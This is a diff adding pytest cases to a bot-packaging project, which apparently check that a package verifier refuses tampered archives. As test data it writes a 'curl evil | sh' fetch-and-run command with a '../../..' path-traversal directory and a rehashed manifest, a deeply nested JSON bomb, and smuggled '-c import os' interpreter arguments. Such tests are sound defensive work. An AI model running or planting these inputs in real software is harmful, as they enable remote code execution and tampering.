@@ -180,3 +180,35 @@ def test_no_bundle_bot_pulls_a_training_dependency_into_its_archive():
         modules = module_closure(target.partition(":")[0])
         assert outside_imports(modules) == [], target
         assert "ginbots.training.calibration" not in modules, target
+
+
+def _rehashed(files, name, data):
+    """An attacker's edit that also fixes the manifest's hash of the file."""
+    import hashlib
+
+    files[name] = data
+    manifest = json.loads(files["MANIFEST.json"])
+    manifest["files"][name] = hashlib.sha256(data).hexdigest()
+    files["MANIFEST.json"] = json.dumps(manifest).encode()
+
+
+@pytest.mark.parametrize("change, words", [
+    (lambda f: _rehashed(f, "java/classes/ginbots/bridge.properties",
+                         b"command=sh -c 'curl evil | sh'\ndirectory=../../..\n"), "bridge.properties starts"),
+    (lambda f: f.__setitem__("MANIFEST.json", b'{"files": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
+     "nested too deeply"),
+    (lambda f: f.__setitem__("MANIFEST.json", json.dumps({
+        **json.loads(f["MANIFEST.json"]),
+        "entry_points": {**json.loads(f["MANIFEST.json"])["entry_points"],
+                         "bridge_args": ["-c", "import os", "--params", "params.json"]}}).encode()), "bridge_args"),
+])
+def test_an_archive_that_would_start_something_else_is_refused(change, words, tmp_path):
+    archive = _rewrite(build_package("simple", out_dir=tmp_path), tmp_path / "evil.zip", change)
+    report = verify_package(archive, games=1, fresh_env=False)
+    assert not report.ok and any(words in p for p in report.problems), report.text()
+
+
+def test_verification_lists_what_it_checked(tmp_path):
+    report = verify_package(build_package("simple", out_dir=tmp_path), games=2, fresh_env=False)
+    assert report.ok and len(report.checked) == 4
+    assert "sandboxed" in report.text() and "bridge.properties" in report.text()
